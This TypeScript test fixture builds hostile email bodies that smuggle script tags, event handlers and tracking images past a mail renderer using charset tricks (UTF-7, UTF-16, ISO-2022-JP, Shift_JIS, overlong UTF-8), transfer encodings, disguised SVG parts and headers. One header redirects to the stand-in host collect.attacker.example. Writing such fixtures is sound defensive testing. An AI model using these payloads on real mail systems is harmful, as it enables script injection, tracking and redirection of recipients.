import { at, run } from "./marks.ts";

/** A mail whose form, not its page, is what deceives. */
interface HostileMail {
  readonly name: string;
  /** The mail below its `From` and `Subject`, byte by byte. */
  readonly rest: Buffer;
}

const harm = `<script>${run}</script><img src="${at("pixel.gif")}">`;
const html = (charset: string, body: string | Buffer, more = ""): Buffer =>
  Buffer.concat([
    Buffer.from(`Content-Type: text/html; charset=${charset}\r\n${more}\r\n`, "latin1"),
    typeof body === "string" ? Buffer.from(body, "latin1") : body,
  ]);
const utf7 = harm.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-").replaceAll('"', "+ACI-");
const swapped = (text: string) => Buffer.from(text, "utf16le").swap16();
const mixed = (...parts: readonly string[]): Buffer =>
  Buffer.from(
    `Content-Type: multipart/related; boundary=b\r\n\r\n${parts.map((part) => `--b\r\n${part}\r\n`).join("")}--b--\r\n`,
    "latin1",
  );
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><image href="${at("cid.png")}"/></svg>`;
const picture = (type: string, content: string) =>
  `Content-Type: ${type}\r\nContent-ID: <p>\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(content).toString("base64")}`;
const shows = `Content-Type: text/html\r\n\r\n<p>Start</p><img src="cid:p"><iframe src="cid:p"></iframe><object data="cid:p"></object>`;

/** Mails that hide a page's markup in character sets, encodings and parts. */
export const hostileMails: readonly HostileMail[] = [
  { name: "UTF-7 declared", rest: html("utf-7", `<p>Start</p>${utf7}`) },
  { name: "UTF-7 said by the page", rest: html("us-ascii", `<meta charset=utf-7><p>Start</p>${utf7}`) },
  { name: "UTF-16 with its mark", rest: html("utf-16", Buffer.from(`\ufeff<p>Start</p>${harm}`, "utf16le")) },
  { name: "UTF-16, bytes swapped", rest: html("utf-16be", swapped(`<p>Start</p>${harm}`)) },
  { name: "UTF-16 without saying so", rest: html("utf-8", Buffer.from(`\ufeff<p>Start</p>${harm}`, "utf16le")) },
  { name: "UTF-32", rest: html("utf-32", `<p>Start</p>${harm.replaceAll(/./g, "\0\0\0$&")}`) },
  {
    name: "ISO-2022-JP escapes in a tag",
    rest: html("iso-2022-jp", `<p>Start</p><\x1b(Bscript>${run}</script>${harm}`),
  },
  {
    name: "ISO-2022-JP that eats a quote",
    rest: html("iso-2022-jp", `<p>Start</p><img alt="\x1b$@">x<img alt="\x1b(B><img src=x onerror=${run}>">`),
  },
  { name: "HZ that eats a line", rest: html("hz-gb-2312", `<p>Start</p><p title="~{">~}${harm}`) },
  {
    name: "Shift_JIS that eats a quote",
    rest: html("shift_jis", `<p>Start</p><p title="\x81">" onclick=${run}>x</p>${harm}`),
  },
  {
    name: "Big5 that eats a backslash",
    rest: html("big5", `<p>Start</p><p title='\xa1'>' onclick=${run}>x</p>${harm}`),
  },
  { name: "GB18030 with four bytes", rest: html("gb18030", `<p>Start</p><p title="\x81\x30\x81\x30\x81">">${harm}`) },
  { name: "EBCDIC", rest: html("ibm037", `<p>Start</p>${harm}`) },
  {
    name: "UTF-8 with overlong brackets",
    rest: html("utf-8", `<p>Start</p>\xc0\xbcscript\xc0\xbe${run}\xc0\xbc/script\xc0\xbe${harm}`),
  },
  {
    name: "US-ASCII with the eighth bit",
    rest: html("us-ascii", `<p>Start</p>\xbcscript\xbe${run}\xbc/script\xbe${harm}`),
  },
  { name: "a charset with a line break", rest: html('"utf-8\\"; x=<script>"', `<p>Start</p>${harm}`) },
  {
    name: "quoted-printable",
    rest: html(
      "utf-8",
      `<p>Start</p>${harm.replaceAll("=", "=3D").replaceAll("<", "=3C")}`,
      "Content-Transfer-Encoding: quoted-printable\r\n",
    ),
  },
  {
    name: "base64",
    rest: html("utf-8", Buffer.from(`<p>Start</p>${harm}`).toString("base64"), "Content-Transfer-Encoding: base64\r\n"),
  },
  {
    name: "a policy of its own in the headers",
    rest: html(
      "utf-8",
      `<p>Start</p>${harm}`,
      "Content-Security-Policy: default-src *\r\nRefresh: 0;url=https://collect.attacker.example/\r\n",
    ),
  },
  {
    name: "markup in plain text",
    rest: Buffer.from(`Content-Type: text/plain\r\n\r\nStart ${harm} </div></body>`, "latin1"),
  },
  {
    name: "markup in the subject of plain text",
    rest: Buffer.from(`X-Subject: </title>${harm}\r\n\r\nStart </title></style>${harm}`, "latin1"),
  },
  {
    name: "XHTML",
    rest: Buffer.from(
      `Content-Type: application/xhtml+xml\r\n\r\n<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Start</p><script>${run}</script></body></html>`,
      "latin1",
    ),
  },
  { name: "an SVG as its own picture", rest: mixed(shows, picture("image/svg+xml", svg)) },
  { name: "an SVG that says it is a PNG", rest: mixed(shows, picture("image/png", svg)) },
  { name: "a page that says it is a GIF", rest: mixed(shows, picture("image/gif", `GIF89a${harm}`)) },
  { name: "a type with markup in it", rest: mixed(shows, picture('image/png"><script>', harm)) },
  {
    name: "a picture elsewhere by Content-Location",
    rest: mixed(
      `Content-Type: text/html\r\nContent-Base: ${at("")}\r\nContent-Location: ${at("page")}\r\n\r\n<p>Start</p><img src="relative.png">`,
      `Content-Type: image/png\r\nContent-Location: ${at("relative.png")}\r\n\r\nx`,
    ),
  },
  {
    name: "a body elsewhere",
    rest: mixed(
      "Content-Type: text/html\r\n\r\n<p>Start</p>",
      `Content-Type: message/external-body; access-type=URL; URL="${at("external")}"\r\n\r\nContent-Type: text/html\r\n\r\n`,
    ),
  },
];
